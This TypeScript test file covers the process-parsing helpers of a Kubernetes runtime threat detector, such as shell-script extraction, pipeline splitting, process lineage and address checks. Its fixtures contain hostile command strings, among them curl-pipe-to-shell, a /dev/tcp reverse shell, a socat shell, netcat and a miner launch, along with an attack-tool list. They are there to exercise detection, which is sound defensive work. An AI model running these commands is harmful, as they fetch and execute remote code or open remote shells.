import { mergeDetectionLists } from '../../../../shared/detection/allowLists';
import { createDetectionContext, defaultDetectionContext } from '../../../../shared/detection/detectionContext';
import {
  ancestorsUpTo,
  argumentList,
  baseName,
  commandLineText,
  commandNameOf,
  commandPipelines,
  commandTexts,
  commandWords,
  findProcessInList,
  hasAncestor,
  isContainerRuntime,
  isExec,
  isExecProbe,
  isHostProcess,
  isInContainer,
  isListedProcess,
  isLoopbackHost,
  isPrivateAddress,
  isShell,
  isSystemWorkload,
  isTrustedSetuidHelper,
  lineage,
  parsedCommands,
  parsedPipelines,
  processIdentities,
  processInList,
  processName,
  programName,
  shellPipelines,
  shellScript,
} from '../../../../shared/detection/predicates/nodeProcesses';
import { compilePatternList } from '../../../../shared/detection/patternList';
import { type NodeEvent, NodeEventType, type NodePod, type NodeProcess } from '../../../../shared/node/nodeEvent';

const context = defaultDetectionContext;

function proc(binary: string, args = '', pod?: NodePod): NodeProcess {
  return { binary, arguments: args, ...(pod === undefined ? {} : { pod }) };
}

function pod(overrides: Partial<NodePod> & { image?: string; maybeExecProbe?: boolean } = {}): NodePod {
  const { image = 'docker.io/library/nginx:1.27', maybeExecProbe, ...rest } = overrides;
  return {
    namespace: 'shop',
    name: 'web-7d4b9c6f5-x2x9k',
    workload: 'web',
    podLabels: {},
    container: { name: 'web', image: { name: image }, ...(maybeExecProbe === undefined ? {} : { maybeExecProbe }) },
    ...rest,
  };
}

function event(process: NodeProcess, parent?: NodeProcess, ancestors: NodeProcess[] = [], type: NodeEventType = NodeEventType.processExec): NodeEvent {
  return { type, id: 'e1', time: '2025-06-03T09:41:27Z', nodeName: 'aks-nodepool1-12345678-vmss000000', process, ...(parent === undefined ? {} : { parent }), ancestors };
}

describe('nodeProcesses', () => {
  describe('names', () => {
    it('when a path is given, then baseName is its last component', () => {
      expect(baseName('/usr/bin/bash')).toBe('bash');
      expect(baseName('bash')).toBe('bash');
      expect(baseName('/opt/app/')).toBe('app');
      expect(processName(proc('/usr/local/sbin/php-fpm'))).toBe('php-fpm');
      expect(processName(undefined)).toBe('');
    });

    it('when a list names a binary by file name or by path, then processInList finds it', () => {
      const lists = createDetectionContext(mergeDetectionLists({ attackToolBinaries: ['nmap', '/tmp/*'] })).lists;
      expect(processInList(proc('/usr/bin/nmap'), lists.attackToolBinaries)).toBe(true);
      expect(processInList(proc('/tmp/x'), lists.attackToolBinaries)).toBe(true);
      expect(findProcessInList(proc('/tmp/x'), lists.attackToolBinaries)).toBe('/tmp/*');
      expect(processInList(proc('/usr/bin/curl'), lists.attackToolBinaries)).toBe(false);
      expect(processInList(proc(''), lists.attackToolBinaries)).toBe(false);
    });

    it('when an interpreter runs a script, then programName is the script', () => {
      expect(programName(proc('/usr/bin/python3', '/usr/bin/unattended-upgrade'))).toBe('unattended-upgrade');
      expect(programName(proc('/bin/sh', '/usr/lib/apt/apt.systemd.daily update'))).toBe('apt.systemd.daily');
      expect(programName(proc('/bin/sh', '-c "rm -f /tmp/x"'))).toBe('sh');
      expect(programName(proc('/usr/sbin/logrotate', '/etc/logrotate.conf'))).toBe('logrotate');
    });
  });

  describe('processIdentities', () => {
    it('when a binary runs, then it is known by its path and file name', () => {
      expect(processIdentities(proc('/usr/local/bin/kubelet', '--v=2'))).toEqual(['/usr/local/bin/kubelet', 'kubelet']);
    });

    it('when Python runs a script, then the script names the process too', () => {
      expect(processIdentities(proc('/usr/bin/python3', '-u /usr/sbin/waagent -run-exthandlers'))).toEqual(['/usr/bin/python3', 'python3', '/usr/sbin/waagent', 'waagent']);
    });

    it('when Python runs a module, then the module names the process', () => {
      expect(processIdentities(proc('/usr/bin/python3', '-m azure.cli login --identity'))).toEqual(['/usr/bin/python3', 'python3', 'azure.cli']);
    });

    it('when Python runs a script named without a directory, or a shell runs a script, then only the binary names the process', () => {
      expect(processIdentities(proc('/usr/bin/python3', 'waagent'))).toEqual(['/usr/bin/python3', 'python3']);
      expect(processIdentities(proc('/bin/sh', '/usr/sbin/waagent'))).toEqual(['/bin/sh', 'sh']);
    });

    it('when the process has no binary, then it has no identity', () => {
      expect(processIdentities(proc(''))).toEqual([]);
      expect(processIdentities(undefined)).toEqual([]);
    });

    it('when a list names the script of an interpreted agent, then the agent is listed and the same name elsewhere is not', () => {
      const list = compilePatternList(['/usr/sbin/waagent']);
      expect(isListedProcess(proc('/usr/bin/python3', '-u /usr/sbin/waagent -run-exthandlers'), list)).toBe(true);
      expect(isListedProcess(proc('/usr/bin/python3', '/tmp/waagent'), list)).toBe(false);
      expect(isListedProcess(proc('/usr/bin/python3', '-m azure.cli'), compilePatternList(['azure.cli']))).toBe(true);
    });
  });

  describe('isTrustedSetuidHelper', () => {
    it('when a listed helper runs from a system binary directory, then it is trusted', () => {
      expect(isTrustedSetuidHelper(proc('/usr/bin/sudo', 'id'), context)).toBe(true);
      expect(isTrustedSetuidHelper(proc('/bin/su', '-'), context)).toBe(true);
      expect(isTrustedSetuidHelper(proc('/usr/lib/openssh/ssh-keysign'), context)).toBe(true);
    });

    it('when a listed name runs from elsewhere, or an unlisted program runs, then it is not trusted', () => {
      expect(isTrustedSetuidHelper(proc('/tmp/sudo', 'id'), context)).toBe(false);
      expect(isTrustedSetuidHelper(proc('/usr/bin/pkexec', '/bin/sh'), context)).toBe(false);
      expect(isTrustedSetuidHelper(proc(''), context)).toBe(false);
      expect(isTrustedSetuidHelper(undefined, context)).toBe(false);
    });

    it('when setuidHelpers is extended with a full path outside the system directories, then that path is trusted and its name elsewhere is not', () => {
      const extended = createDetectionContext(mergeDetectionLists({ setuidHelpers: { add: ['/opt/vendor/bin/vpn-helper'], remove: [] } }));
      expect(isTrustedSetuidHelper(proc('/opt/vendor/bin/vpn-helper'), context)).toBe(false);
      expect(isTrustedSetuidHelper(proc('/opt/vendor/bin/vpn-helper'), extended)).toBe(true);
      expect(isTrustedSetuidHelper(proc('/tmp/vpn-helper'), extended)).toBe(false);
    });
  });

  describe('arguments', () => {
    it('when Tetragon quotes an argument with spaces, then argumentList keeps it whole', () => {
      expect(argumentList(proc('/bin/sh', '-c "curl -s http://x | sh"'))).toEqual(['-c', 'curl -s http://x | sh']);
      expect(argumentList(proc('/usr/bin/socat', "exec:'bash -li',pty tcp:h:1"))).toEqual(['exec:bash -li,pty', 'tcp:h:1']);
      expect(argumentList(proc('/bin/ls', ''))).toEqual([]);
      expect(commandLineText(proc('/bin/ls', '-la /tmp'))).toBe('/bin/ls -la /tmp');
      expect(commandLineText(proc('/bin/ls'))).toBe('/bin/ls');
    });

    it('when a shell runs -c, then shellScript is the script, even with unescaped quotes inside it', () => {
      expect(shellScript(proc('/bin/sh', '-c "curl -s http://x | sh"'), context)).toBe('curl -s http://x | sh');
      // Tetragon does not escape the quotes inside a quoted argument.
      expect(shellScript(proc('/bin/bash', '-c "echo "a b" | nc h 1"'), context)).toBe('echo "a b" | nc h 1');
      expect(shellScript(proc('/bin/bash', '-lc whoami'), context)).toBe('whoami');
      expect(shellScript(proc('/bin/bash', '-o pipefail -c "id"'), context)).toBe('id');
      // Falco's proc.cmdline does not quote at all.
      expect(shellScript(proc('/bin/sh', '-c curl x | sh'), context)).toBe('curl x | sh');
      expect(shellScript(proc('/bin/busybox', 'sh -c "id"'), context)).toBe('id');
    });

    it('when a shell runs a script file or nothing, or the process is no shell, then shellScript is undefined', () => {
      expect(shellScript(proc('/bin/sh', '/docker-entrypoint.sh nginx'), context)).toBeUndefined();
      expect(shellScript(proc('/bin/bash', '-i'), context)).toBeUndefined();
      expect(shellScript(proc('/usr/bin/python3', '-c "print(1)"'), context)).toBeUndefined();
    });

    it('when a shell runs -c, then commandTexts holds the command line and the script', () => {
      expect(commandTexts(proc('/bin/sh', '-c "id"'), context)).toEqual(['/bin/sh -c "id"', 'id']);
      expect(commandTexts(proc('/usr/bin/id'), context)).toEqual(['/usr/bin/id']);
      expect(commandPipelines(proc('/bin/sh', '-c "curl x | sh; id"'), context)).toEqual([['/bin/sh -c "curl x | sh; id"'], ['curl x', 'sh'], ['id']]);
    });
  });

  describe('shell text', () => {
    it('when shell text has pipes and lists, then shellPipelines splits them outside quotes and keeps redirections', () => {
      expect(shellPipelines('curl -s x | sh; id && uname -a || true')).toEqual([['curl -s x', 'sh'], ['id'], ['uname -a'], ['true']]);
      expect(shellPipelines('bash -i >& /dev/tcp/h/1 0>&1')).toEqual([['bash -i >& /dev/tcp/h/1 0>&1']]);
      expect(shellPipelines('echo "a | b" | cat 2>&1 &')).toEqual([['echo "a | b"', 'cat 2>&1']]);
      expect(shellPipelines('echo "say \\"hi | there\\"" | cat')).toEqual([['echo "say \\"hi | there\\""', 'cat']]);
    });

    it('when a command has wrappers and assignments, then commandWords starts at the program', () => {
      expect(commandWords('sudo -E env A=1 /usr/bin/curl -s x')).toEqual(['/usr/bin/curl', '-s', 'x']);
      expect(commandWords('timeout 5 nohup ./miner -o p:1')).toEqual(['./miner', '-o', 'p:1']);
      expect(commandNameOf('busybox wget -q -O- http://x')).toBe('wget');
      expect(commandNameOf('$(curl -s x)')).toBe('curl');
      expect(commandNameOf('')).toBe('');
    });

    it('when BusyBox is reported, then isShell tells its shell from its other applets', () => {
      expect(isShell(proc('/bin/busybox', 'sh -c id'), context)).toBe(true);
      expect(isShell(proc('/bin/busybox', '-c id'), context)).toBe(true);
      expect(isShell(proc('/bin/busybox', 'wget -q http://x'), context)).toBe(false);
      // Applets reported as BusyBox itself keep their own options.
      expect(isShell(proc('/bin/busybox', '-qO- http://localhost:8080/healthz'), context)).toBe(false);
      expect(isShell(proc('/usr/bin/bash', '-i'), context)).toBe(true);
      expect(isShell(proc('/usr/bin/curl', 'x'), context)).toBe(false);
    });
  });

  describe('events', () => {
    const shell = proc('/bin/sh', '-c id', pod());
    const nginx = proc('/usr/sbin/nginx', '-g "daemon off;"', pod());
    const shim = proc('/usr/bin/containerd-shim-runc-v2', '-namespace k8s.io');

    it('when an event has a parent and ancestors, then lineage lists them nearest first', () => {
      const e = event(shell, nginx, [shim]);
      expect(lineage(e).map(processName)).toEqual(['sh', 'nginx', 'containerd-shim-runc-v2']);
      expect(ancestorsUpTo(e, 1).map(processName)).toEqual(['nginx']);
      expect(hasAncestor(e, (p) => processName(p) === 'nginx')).toBe(true);
      expect(hasAncestor(e, (p) => processName(p) === 'sh')).toBe(false);
      expect(lineage(event(shell))).toHaveLength(1);
    });

    it('when the process has a pod or not, then isInContainer and isHostProcess say so', () => {
      expect(isInContainer(event(shell))).toBe(true);
      expect(isHostProcess(event(shell))).toBe(false);
      expect(isHostProcess(event(shim))).toBe(true);
    });

    it('when the event is an exec or an exec probe, then isExec and isExecProbe say so', () => {
      expect(isExec(event(shell))).toBe(true);
      expect(isExec(event(shell, undefined, [], NodeEventType.processKprobe))).toBe(false);
      expect(isExecProbe(event(proc('/bin/sh', '-c true', pod({ maybeExecProbe: true }))))).toBe(true);
      expect(isExecProbe(event(shell))).toBe(false);
    });

    it('when the parent is runc or a containerd shim, then isContainerRuntime is true', () => {
      expect(isContainerRuntime(shim)).toBe(true);
      expect(isContainerRuntime(proc('/usr/bin/runc', 'exec'))).toBe(true);
      expect(isContainerRuntime(proc('/usr/bin/containerd', ''))).toBe(false);
      expect(isContainerRuntime(undefined)).toBe(false);
    });

    it('when the workload is listed, or an infrastructure image runs in an infrastructure namespace, then isSystemWorkload is true', () => {
      const listed = createDetectionContext(mergeDetectionLists({ systemWorkloads: ['kube-system/cilium'] }));
      const cilium = proc('/usr/bin/cilium-agent', '', pod({ namespace: 'kube-system', name: 'cilium-x2x9k', workload: 'cilium', image: 'quay.io/cilium/cilium:v1.16.1' }));
      expect(isSystemWorkload(event(cilium), listed)).toBe(true);
      expect(isSystemWorkload(event(cilium), createDetectionContext(mergeDetectionLists({ systemWorkloads: [] })))).toBe(false);
      const proxy = pod({ namespace: 'kube-system', name: 'kube-proxy-abcde', workload: 'kube-proxy', image: 'mcr.microsoft.com/oss/kubernetes/kube-proxy:v1.30.3' });
      expect(isSystemWorkload(event(proc('/usr/local/bin/kube-proxy', '', proxy)), context)).toBe(true);
      expect(isSystemWorkload(event(proc('/usr/local/bin/kube-proxy', '', { ...proxy, namespace: 'shop' })), context)).toBe(false);
      expect(isSystemWorkload(event(shim), context)).toBe(false);
    });
  });

  describe('addresses', () => {
    it('when an address is loopback, then isLoopbackHost is true', () => {
      expect(['127.0.0.1', 'localhost', '::1', '[::1]', '0.0.0.0'].every(isLoopbackHost)).toBe(true);
      expect(isLoopbackHost('10.0.0.1')).toBe(false);
    });

    it('when an address is private, link-local or shared, then isPrivateAddress is true; public addresses and names are not', () => {
      expect(['10.1.2.3', '172.16.0.1', '192.168.1.1', '100.64.0.1', '169.254.169.254', 'fd00::1', 'fe80::1'].every(isPrivateAddress)).toBe(true);
      expect(['203.0.113.45', '172.32.0.1', '8.8.8.8', '2001:db8::1', 'fcbarcelona.com'].some(isPrivateAddress)).toBe(false);
    });
  });
  describe('shared process views', () => {
    it('when the same process is read with other lists, then the list-dependent views follow the lists', () => {
      const process = proc('/bin/bash', '-c "curl -s http://x | sh"');
      const noBash = createDetectionContext(mergeDetectionLists({ shells: { add: [], remove: ['bash'] } }));
      expect(shellScript(process, context)).toBe('curl -s http://x | sh');
      expect(shellScript(process, noBash)).toBeUndefined();
      expect(commandTexts(process, noBash)).toEqual(['/bin/bash -c "curl -s http://x | sh"']);
      expect(commandTexts(process, context)).toEqual(['/bin/bash -c "curl -s http://x | sh"', 'curl -s http://x | sh']);
    });

    it('when many processes are read in turn, then each keeps its own parsed commands', () => {
      const processes = Array.from({ length: 20 }, (_, index) => proc('/bin/sh', `-c "sudo tool${index} -v | sh"`));
      for (let round = 0; round < 2; round += 1) {
        for (const [index, process] of processes.entries()) {
          expect(argumentList(process)).toEqual(['-c', `sudo tool${index} -v | sh`]);
          expect(parsedCommands(process, context).map((command) => command.name)).toEqual(['sh', `tool${index}`, 'sh']);
        }
      }
      expect(parsedPipelines(processes[3] ?? proc('x'), context).map((pipeline) => pipeline.map((command) => command.words))).toEqual([
        [['/bin/sh', '-c', 'sudo tool3 -v | sh']],
        [['tool3', '-v'], ['sh']],
      ]);
    });
  });
});
